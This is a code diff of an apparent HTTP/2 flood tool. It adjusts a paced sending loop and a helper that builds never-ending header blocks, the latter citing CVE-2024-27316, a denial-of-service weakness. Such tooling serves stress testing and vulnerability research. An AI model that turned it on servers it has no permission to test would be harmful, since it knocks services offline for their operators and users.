@@ -46,13 +46,12 @@ def _paced(target: Target, count: int, seconds: float, batch_of: Callable[[Conne
             with Connection(target) as connection:
                 connections += 1
                 while sent < count and (elapsed := time.monotonic() - began) < seconds:
+                    connection.discard()
                     if sent > count * elapsed / seconds:
-                        connection.receive(0.005)
+                        time.sleep(0.005)
                         continue
                     connection.send(batch_of(connection, BATCH))
                     sent += BATCH
-                    while connection.receive(0):
-                        pass
         except ConnectionEnded:
             time.sleep(0.01)
     return sent, connections
@@ -92,7 +91,7 @@ def _open_stream(target: Target, connection: Connection) -> int:
 
 def _headers_without_end(target: Target, connection: Connection, size: int) -> bytes:
     """A header block that never ends (CVE-2024-27316 and others)."""
-    if connection.received.frames >= 0 and not connection.stream_windows:
+    if not connection.stream_windows:
         stream = connection.new_stream()
         connection.send(frame(HEADERS, 0, stream, header_block(target, CLASSIFY)))
     stream = next(iter(connection.stream_windows))
